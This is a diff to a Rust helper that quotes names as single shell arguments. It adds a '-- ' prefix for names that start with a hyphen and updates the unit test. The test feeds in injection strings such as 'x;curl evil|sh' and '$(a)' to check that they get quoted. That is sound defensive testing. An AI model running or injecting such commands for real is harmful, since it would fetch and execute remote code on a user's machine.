@@ -60,9 +60,11 @@ pub(crate) fn line(text: &str) -> String {
 /// A name as one argument of a command that is to be pasted into a shell.
 pub(crate) fn argument(name: &str) -> String {
     let is_plain = |it: char| it.is_alphanumeric() || "/._-+@:,%".contains(it);
+    // What begins so would be an option.
+    let end = if name.starts_with('-') { "-- " } else { "" };
     match !name.is_empty() && name.chars().all(is_plain) {
-        true => name.to_owned(),
-        false => format!("'{}'", line(name).replace('\'', r"'\''")),
+        true => format!("{end}{name}"),
+        false => format!("{end}'{}'", line(name).replace('\'', r"'\''")),
     }
 }
 
@@ -184,7 +186,7 @@ mod tests {
 
     #[test]
     fn whatever_a_name_is_it_is_one_argument_of_a_shell() {
-        assert_eq!(["mail", "a:b@1.0", "größe"].map(argument), ["mail", "a:b@1.0", "größe"]);
+        assert_eq!(["mail", "a:b@1.0", "größe", "-x"].map(argument), ["mail", "a:b@1.0", "größe", "-- -x"]);
         assert_eq!(
             ["x;curl evil|sh", "$(a)", "it's", "a b", ""].map(argument),
             ["'x;curl evil|sh'", "'$(a)'", r"'it'\''s'", "'a b'", "''"]
